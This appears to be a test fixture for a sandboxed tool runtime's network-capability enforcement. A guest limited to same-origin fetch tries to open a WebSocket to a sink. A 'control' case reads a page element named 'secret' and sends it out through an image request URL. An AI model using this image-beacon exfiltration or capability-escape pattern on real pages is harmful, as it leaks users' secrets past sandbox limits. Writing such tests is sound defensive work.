//! guest = "tool"
//! promise = "tool-network"
//! capabilities = ["network:fetch:same-origin"]
await btcp.network.websocket.open(args.sink.replace("http", "ws") + "/x").catch(() => {});
return "tried";
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
